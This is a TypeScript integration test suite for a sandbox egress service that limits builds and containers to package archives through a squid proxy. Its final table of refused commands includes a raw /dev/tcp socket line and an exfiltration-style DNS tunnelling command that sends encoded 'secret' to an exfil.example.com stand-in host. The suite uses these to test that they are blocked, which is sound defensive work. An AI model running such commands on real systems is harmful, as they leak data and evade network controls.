// Package archives from a build, through the host's squid, and nothing else. Real parts only:
// Debian's squid, the launcher, Debian's archive (this machine reaches deb.debian.org; when it
// does not, the suite is skipped and says why). Each refused way out is tried for real.
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LearnerError } from '../../../protocol/errors.js';
import { sharedBaseImage } from '../base-images/test-support/shared.js';
import { createHarness, type Harness } from '../builder/test-support/harness.js';
import type { Builder } from '../builder/build.js';
import { createHarness as createContainerHarness, logsOf, processesMentioning, type Harness as ContainerHarness } from '../containers/test-support/harness.js';
import { EgressService } from './index.js';
import { chainRoot } from './test-support/host-ca.js';
import { reachable } from './test-support/reachable.js';

const online = await reachable('deb.debian.org');
if (!online) console.warn('egress tests skipped: deb.debian.org is not reachable from this host');
const npmOnline = online && (await reachable('registry.npmjs.org', 'https'));

describe.skipIf(!online)('egress to package archives', () => {
  let h: Harness;
  let dir: string;
  let egress: EgressService;
  let builder: Builder;
  let curlImage = '';

  beforeAll(async () => {
    h = await createHarness('egress');
    await sharedBaseImage(h.store, 'debian');
    // A mkdtemp dir (0700): squid's start lets its proxy user through (squid.test.ts).
    dir = await mkdtemp('/tmp/lc-egress-');
    egress = new EgressService({ dir, cacheBytes: 256 * 2 ** 20, sessionsDir: join(h.dataDir, 'sessions') });
    await egress.start();
    builder = h.builderWith({ egress });
  }, 600_000);

  let ct: ContainerHarness | null = null;

  afterAll(async () => {
    await egress?.stop();
    expect(await h.leftovers()).toEqual([]);
    // The container harness shares the builder's data dir (its debian image) and removes it.
    await ct?.close();
    // squid, and every container's door (they die with their containers).
    expect(processesMentioning(dir)).toEqual([]);
    await h?.close();
    await rm(dir, { recursive: true, force: true });
  }, 60_000);

  const APT = 'FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl\n';

  it('builds apt-get install curl through the proxy; the same build again is served from its cache', async () => {
    const first = await h.build(APT, { tags: ['curl'] }, builder).catch((err) => {
      console.error(JSON.stringify((err as LearnerError).facts, null, 1));
      throw err;
    });
    curlImage = first.imageId;
    expect(await h.inImage(first.imageId, 'test -x "$ROOT/usr/bin/curl" && echo yes')).toContain('yes');
    const reached = first.events.events.filter((e) => e.type === 'build.egress');
    expect(reached.length).toBe(1);
    expect(JSON.stringify(reached[0])).toContain('deb.debian.org');
    const afterFirst = await egress.counters();
    expect(afterFirst.requests).toBeGreaterThan(5);

    // --no-cache: the step runs again and refetches, from squid's cache this time.
    const again = await h.build(APT, { noCache: true }, builder);
    expect(again.imageId).toBeDefined();
    const afterSecond = await egress.counters();
    expect(afterSecond.hits - afterFirst.hits).toBeGreaterThan(5);
    // The build cache stays honest: same instruction, cached like any other.
    const cached = await h.build(APT, {}, builder);
    expect(cached.steps.at(-1)?.cacheHit).toBe(true);
  }, 300_000);

  it('without the proxy the same step cannot reach the archive (the control)', async () => {
    const failed = await h.buildFails('FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y curl\n', {}, h.builder);
    expect(failed.error).toBeInstanceOf(LearnerError);
    expect((failed.error as LearnerError).key).toBe('build.runFailed');
  }, 120_000);

  it('an image without our apt setting (as registries serve debian) still apt-get installs: setgroups is allowed', async () => {
    const built = await h.build(
      'FROM debian:bookworm-slim\nRUN rm -f /etc/apt/apt.conf.d/99layercake-sandbox && apt-get update && apt-get install -y --no-install-recommends curl && curl --version\n',
      {},
      builder,
    );
    const log = built.events.events.flatMap((e) => (e.type === 'build.log' ? [e.text] : [])).join('');
    expect(log).not.toContain('setgroups');
    expect(log).toContain('curl 7.');
  }, 300_000);

  describe('containers', () => {
    const APT_IN_CONTAINER = ['bash', '-c', 'apt-get update 2>&1; apt-get install -y --no-install-recommends curl 2>&1 | tail -3; echo "status: $?"; test -x /usr/bin/curl && echo "curl installed"'];

    async function runToExit(allowed: boolean): Promise<{ output: string; id: string }> {
      ct ??= await createContainerHarness('egress', { dataDir: h.dataDir });
      const containers = ct.containers({ containerEgress: egress.forContainers() });
      const { container } = await containers.run({ image: 'debian:bookworm-slim', cmd: APT_IN_CONTAINER, egress: allowed });
      await containers.wait(container.id);
      const output = await logsOf(containers, container.id);
      await containers.remove(container.id, { force: true });
      return { output, id: container.id };
    }

    it('a container its session lets out apt-get installs curl, and its door ends with it', async () => {
      const { output } = await runToExit(true);
      expect(output).toContain('curl installed');
      // The door (socat in the container's cgroups) is gone with the container.
      expect(processesMentioning(join(dir, 'sessions'))).toEqual([]);
    }, 300_000);

    it('a container its session does not let out is refused, and apt says why', async () => {
      const { output } = await runToExit(false);
      expect(output).not.toContain('curl installed');
      expect(output).toContain('do not reach package archives');
      expect(processesMentioning(join(dir, 'sessions'))).toEqual([]);
    }, 120_000);

    it('a container outlives the worker: its door still leads out after the service restarts', async () => {
      ct ??= await createContainerHarness('egress', { dataDir: h.dataDir });
      const containers = ct.containers({ containerEgress: egress.forContainers() });
      const { container } = await containers.run({ image: 'debian:bookworm-slim', cmd: ['sleep', '300'], egress: true });
      try {
        // A new service on the same directory, as after a worker restart.
        await egress.stop();
        egress = new EgressService({ dir, cacheBytes: 256 * 2 ** 20, sessionsDir: join(h.dataDir, 'sessions') });
        await egress.start();
        builder = h.builderWith({ egress });
        const run = await containers.exec(container.id, { cmd: ['bash', '-c', 'apt-get update 2>&1'] });
        let out = '';
        run.process.stdout.on('data', (b: Buffer) => (out += b.toString()));
        run.process.stderr.on('data', (b: Buffer) => (out += b.toString()));
        expect((await run.exited).exitCode, out).toBe(0);
        expect(out).toContain('Reading package lists');
        expect(out).not.toMatch(/Failed to fetch|Connection failed/);
      } finally {
        await containers.remove(container.id, { force: true });
      }
      expect(processesMentioning(join(dir, 'sessions'))).toEqual([]);
    }, 180_000);
  });

  it.skipIf(!npmOnline)('hands RUN steps the operator’s CA (LAYERCAKE_EGRESS_CA): curl reaches an HTTPS archive through this host’s intercepting way out', async () => {
    expect(curlImage).not.toBe('');
    // The operator's setting: the root this host's TLS clients are shown (the interceptor's here).
    const caFile = join(dir, 'operator-ca.pem');
    await writeFile(caFile, await chainRoot('registry.npmjs.org'));
    const withCa = new EgressService({ dir, cacheBytes: 256 * 2 ** 20, sessionsDir: join(h.dataDir, 'sessions'), transient: true, extraCa: caFile });
    await withCa.start();
    // The image's curl has no CA bundle of its own (no ca-certificates: --no-install-recommends).
    const STEP = `FROM ${curlImage}\nRUN curl -sS -o /dev/null -w 'status %{http_code}\\n' https://registry.npmjs.org/is-number\n`;
    try {
      const built = await h.build(STEP, { noCache: true }, h.builderWith({ egress: withCa }));
      const log = built.events.events.flatMap((e) => (e.type === 'build.log' ? [e.text] : [])).join('');
      expect(log).toContain('status 200');
      // The files were the step's (its init layer), not its layer's.
      expect(await h.inImage(built.imageId, 'test -e "$ROOT/etc/layercake" && echo kept || echo absent')).toContain('absent');
    } finally {
      await withCa.stop();
    }
    // The control: the same step without the setting fails its TLS handshake.
    const failed = await h.buildFails(STEP, { noCache: true }, builder);
    expect((failed.error as LearnerError).key).toBe('build.runFailed');
    expect(JSON.stringify((failed.error as LearnerError).facts)).toMatch(/certificate|SSL/i);
  }, 120_000);

  const refused: [string, string][] = [
    ['a host off the list, by name, through the proxy', 'curl -sSf http://example.com/'],
    ['a host by IP, through the proxy', 'curl -sSf http://203.0.113.80/'],
    ['HTTPS to a host off the list (CONNECT)', 'curl -sSf https://example.com/'],
    ['an allowed host, around the proxy', "curl -sSf --noproxy '*' http://deb.debian.org/debian/"],
    ['a raw TCP socket to an IP', 'bash -c "exec 3<>/dev/tcp/203.0.113.80/80"'],
    ['DNS tunnelling over UDP', 'bash -c "echo c2VjcmV0.exfil.example.com > /dev/udp/8.8.8.8/53"'],
  ];
  for (const [what, command] of refused) {
    it(`refuses ${what} with the learner's message`, async () => {
      expect(curlImage).not.toBe('');
      const failed = await h.buildFails(`FROM ${curlImage}\nRUN ${command}\n`, {}, builder);
      const err = failed.error as LearnerError;
      expect(err).toBeInstanceOf(LearnerError);
      expect(err.key).toBe('egress.refused');
      expect(err.message).toContain('reaches package archives only');
    }, 60_000);
  }
});
